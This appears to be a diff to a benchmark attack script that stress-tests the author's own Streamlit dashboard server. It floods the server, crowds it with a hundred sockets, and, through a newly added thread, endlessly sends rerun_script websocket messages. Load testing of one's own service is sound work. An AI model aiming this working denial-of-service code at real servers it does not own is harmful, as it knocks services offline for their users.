@@ -1,5 +1,5 @@
 """A hostile tab: it has the largest set-up trained that a page may ask for, asks for changes as fast as it can, reads nothing and acknowledges nothing,
-and opens a hundred sockets of its page at a time.
+opens a hundred sockets of its page at a time, and has the page's script run again without end.
 
 `python -m tests.benchmarks.attack 127.0.0.1:8501` attacks a server of one's own until it is ended.
 """
@@ -15,8 +15,10 @@ import time
 from collections.abc import Iterator
 from contextlib import ExitStack
 
+from streamlit.proto.BackMsg_pb2 import BackMsg
 from websockets.exceptions import WebSocketException
 from websockets.sync.client import ClientConnection, connect
+from websockets.typing import Subprotocol
 
 from dashboard.setups import address
 from maml_core.config import RunConfig, replace
@@ -61,12 +63,27 @@ def crowd_the_door(host: str, token: str) -> None:
         time.sleep(AGAIN_S)
 
 
+def rerun(host: str) -> None:
+    """Ask a session of the page for its script without end."""
+    ask = BackMsg()
+    ask.rerun_script.query_string = ""
+    again = ask.SerializeToString()
+    while True:
+        with contextlib.suppress(WebSocketException, OSError):
+            address, kinds = f"ws://{host}/_stcore/stream", [Subprotocol("streamlit")]
+            with connect(address, subprotocols=kinds, max_size=MAX_FRAME, proxy=None, close_timeout=0.5) as stream:
+                while True:
+                    stream.send(again)
+        time.sleep(AGAIN_S)
+
+
 def main(host: str) -> None:
     """Attack until ended."""
     with session(host, address.write(LARGEST)) as flooded, session(host, address.write(LARGEST)) as crowded:
         threads = [
             threading.Thread(target=flood, args=(host, flooded), daemon=True),
             threading.Thread(target=crowd_the_door, args=(host, crowded), daemon=True),
+            threading.Thread(target=rerun, args=(host,), daemon=True),
         ]
         for thread in threads:
             thread.start()
